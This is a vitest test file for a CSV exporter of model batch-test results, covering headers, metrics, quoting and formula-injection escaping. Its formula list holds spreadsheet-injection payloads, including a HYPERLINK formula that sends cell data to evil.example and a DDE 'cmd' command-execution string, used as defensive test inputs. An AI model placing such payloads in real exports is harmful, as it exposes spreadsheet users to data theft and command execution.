import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { SloReport } from '../../../../../contract/sloTargets.ts';
import { csvFormat } from '../../../../../server/export/formats/csvFormat.ts';
import { exportedColumns } from '../../../../../server/export/formats/exportFormat.ts';
import type { RunResult } from '../../../../../server/results/index.ts';
import {
  aHead,
  aResult,
  aRun,
  aSloReport,
  csvRow,
  noMetrics,
  parseCsv,
  someMetrics,
} from '../../../tables/exportData.ts';

/** The cells of one result by the name of their column. */
function cellsOf(change: Partial<RunResult>): Record<string, string> {
  const [cells, ...more] = parseCsv(csvRow(aResult(change)));
  expect(more).toEqual([]);
  return Object.fromEntries(exportedColumns.map((column, index) => [column, cells?.[index] ?? '']));
}

describe('a CSV export', () => {
  it('has comment lines, the summary, and the results under their names', () => {
    const document = csvFormat.header(aHead()) + csvRow(aResult()) + csvFormat.footer();
    const lines = document.split('\n');
    expect(lines.slice(0, 9)).toEqual([
      '# Demo Batch Test Export',
      '# Model: My model',
      '# Run: QA - Easy, completed',
      '# Parameters: {"max_tokens":10, "temperature":0, "top_k":40, "stream":true}',
      '# Adapted: temperature omitted: the server refused 0.7',
      '# Export Date: 2026-03-04T05:06:07.089Z',
      '',
      '# Summary Metrics',
      'Total Prompts,10',
    ]);
    expect(document).toContain('\nSuccess Rate,90.0%\nAverage Latency (ms),321\n');
    expect(document).toContain('\nP95 Latency (ms),513\n');
    expect(document).toContain('\nP50 Time per Output Token (ms),12.3\n');
    expect(document).toContain('\nAverage Output Tokens per Second,80.4\n');
    const results = document.split('# Individual Results\n')[1] ?? '';
    expect(parseCsv(results)).toHaveLength(2);
    expect(parseCsv(results)[0]).toEqual([...exportedColumns]);
  });

  it('sums up each run by itself where they are of several models', () => {
    const runs = [
      aRun({ metrics: someMetrics({ totalPrompts: 814 }) }),
      aRun({ modelName: 'Base, 8B', modelId: 'base', metrics: someMetrics({ totalPrompts: 400 }) }),
    ];
    const header = csvFormat.header(aHead({ runs, model: null, metrics: null }));
    expect(header.split('\n').filter((line) => /^#|^Total/.test(line))).toEqual([
      '# Demo Batch Test Export',
      '# Model: several, see each run',
      '# Run: QA - Easy, My model, completed',
      expect.stringMatching(/^# Parameters/),
      '# Run: QA - Easy, Base, 8B, completed',
      expect.stringMatching(/^# Parameters/),
      expect.stringMatching(/^# Adapted/),
      expect.stringMatching(/^# Export Date/),
      '# Summary Metrics: QA - Easy, My model, completed',
      'Total Prompts,814',
      '# Summary Metrics: QA - Easy, Base, 8B, completed',
      'Total Prompts,400',
      '# Individual Results',
    ]);
  });

  it('says of each run how exact its times are, where that is known', () => {
    const runs = [aRun({ clockDelayP99Ms: 1.07 }), aRun({ suiteName: 'Old' })];
    expect(csvFormat.header(aHead({ runs })).split('\n')).toEqual(
      expect.arrayContaining([
        '# Run: QA - Easy, completed, clock delay p99 1.07 ms',
        '# Run: Old, completed',
      ]),
    );
  });

  it('says of a run with targets what came of them', () => {
    const header = (slo: SloReport) => csvFormat.header(aHead({ runs: [aRun({ slo })] }));
    expect(header(aSloReport())).toContain(
      '# Targets: TTFT ≤ 500 ms, TPOT ≤ 50 ms: 92.0% of 100 calls within, ' +
        '95% interval 85.0% to 95.9%, 4 not judged, goodput 3.10 calls/s\n',
    );
    const nothing = { sloAttainment: null, sloAttainmentLow: null, sloAttainmentHigh: null };
    expect(header(aSloReport({ ...nothing, calls: 0, goodput: null }))).toContain(
      'unknown of 0 calls within, 95% interval unknown to unknown, 4 not judged, goodput unknown',
    );
    expect(csvFormat.header(aHead())).not.toContain('Targets');
  });

  it('can be read as a whole, row by row', () => {
    const rows = [0, 1, 2].map((promptIndex) => csvRow(aResult({ promptIndex })));
    const document = [csvFormat.header(aHead()), ...rows, csvFormat.footer()].join('');
    const cells = parseCsv(document.replace(/^#.*\n/gm, ''));
    expect(cells.slice(-3).map(([id]) => id)).toEqual(['1', '2', '3']);
  });

  it('says unknown where there is no figure', () => {
    const header = csvFormat.header(aHead({ metrics: noMetrics(), runs: [] }));
    expect(header).toContain('\nTotal Prompts,0\n');
    expect(header).toContain('\nSuccess Rate,unknown\nAverage Latency (ms),unknown\n');
    expect(header).toContain('\nInput Tokens,unknown\n');
    expect(header).toContain('\nP99 Time per Output Token (ms),unknown\n');
    expect(header).not.toMatch(/null|NaN|undefined/);
  });

  it('holds neither the ciphertext nor the client', () => {
    const document = csvFormat.header(aHead()) + csvRow(aResult());
    for (const secret of ['ciphertext', 'bucket', 'hash-of-token']) {
      expect(document).not.toContain(secret);
    }
  });
});

describe('a result in CSV', () => {
  it('has numbers as numbers, also negative ones, and nothing where there is none', () => {
    const row = csvRow(aResult({ latencyMs: -5, ttftMs: null, inputTokens: 0 }));
    expect(row).toContain(',-5,true,');
    expect(cellsOf({ latencyMs: -5, ttftMs: null, inputTokens: 0 })).toMatchObject({
      prompt_id: '1',
      latency_ms: '-5',
      ttft_ms: '',
      input_tokens: '0',
      output_tokens: '3',
      tpot_ms: '138',
      output_tokens_per_second: '7.246',
      success: 'true',
      correct: 'true',
      created_at: '2026-03-04T05:06:07.089Z',
    });
    expect(cellsOf({ success: false, correct: null })).toMatchObject({
      success: 'false',
      correct: '',
    });
  });

  it.each([
    'a,b',
    'say "hi"',
    '""',
    'one\ntwo',
    'one\r\ntwo',
    'one\rtwo',
    ',',
    ' lead and trail ',
    'Zürich 東京 🙂',
    '\u2028',
    '# no comment',
    "it's",
  ])('keeps %j as it is', (text) => {
    expect(cellsOf({ prompt: text, response: text })).toMatchObject({
      prompt: text,
      response: text,
    });
  });

  it('keeps any text but for the apostrophe before a formula', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (text) => {
        const { prompt } = cellsOf({ prompt: text });
        expect([text, `'${text}`]).toContain(prompt);
      }),
      { numRuns: 1_000 },
    );
  });
});

const formulas = [
  '=1+1',
  '=HYPERLINK("https://evil.example/?q="&A1)',
  "=cmd|' /C calc'!A0",
  '+1',
  '-1',
  '-2+3',
  '@SUM(A1)',
  '\t=1',
  '\tplain',
  '\r=1',
  '\rplain',
  '\n=1',
  '\nplain',
  '\0=1',
  '\0plain',
  ' =1',
  '   +1',
  ' \t -1',
  '\u00a0=1',
  '\u200b=1',
  '\ufeff=1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM',
  ' ＝1',
];

describe('a text that a spreadsheet would run', () => {
  const textColumns = {
    prompt: 'prompt',
    response: 'response',
    reasoning: 'reasoning',
    error: 'error',
    finish_reason: 'finishReason',
    category: 'category',
    expected_answer: 'expectedAnswer',
    model_id: 'modelId',
  } as const;

  it.each(formulas)('%j gets an apostrophe in every column of text', (formula) => {
    for (const [column, field] of Object.entries(textColumns)) {
      expect(cellsOf({ [field]: formula })[column]).toBe(`'${formula}`);
    }
  });

  it.each(['a=b', '1-2', 'x @y', '# =1', "'=1", '(=1)', '–1', '', ' '])('%j is none', (text) => {
    expect(cellsOf({ response: text }).response).toBe(text);
  });

  it.each([
    ...formulas,
    'a"b',
    'a,b',
    'x\n=1+1\n',
    'x\r\n# Model: other',
    'x\u2028=1',
    'x\u0085=1',
    '",=1,"',
  ])('cannot leave the comment line of a name: %j', (name) => {
    const runs = [aRun({ suiteName: name })];
    const header = csvFormat.header(aHead({ model: { name, id: 'm' }, runs }));
    const lines = header.split('\n\n')[0]?.split('\n') ?? [];
    expect(lines).toHaveLength(6);
    for (const line of lines) {
      expect(line).toMatch(/^# (Demo|Model|Run|Parameters|Adapted|Export)/);
      expect(line).not.toMatch(/[\r\n\t\u0085\u2028]/);
      // As a spreadsheet parts it that knows of no comments.
      for (const cell of line.split(/[,;]/)) {
        expect(cell).not.toMatch(/^(?:"|[\s\p{Cf}]*[=+\-@＝＋－＠])/u);
      }
    }
  });

  it.each(['a, b', 'a "quoted", "name"', '#', ', # '])(
    'leaves what it measured to whoever skips comments, with a model that is called %j',
    (name) => {
      const model = { name, id: 'm' };
      const document = csvFormat.header(aHead({ model })) + csvRow(aResult());
      const kept = document.split('\n').filter((line) => line !== '' && !line.startsWith('#'));
      expect(kept[0]).toBe('Total Prompts,10');
      expect(
        parseCsv(`${kept.slice(kept.indexOf(exportedColumns.join(','))).join('\n')}\n`),
      ).toHaveLength(2);
    },
  );
});
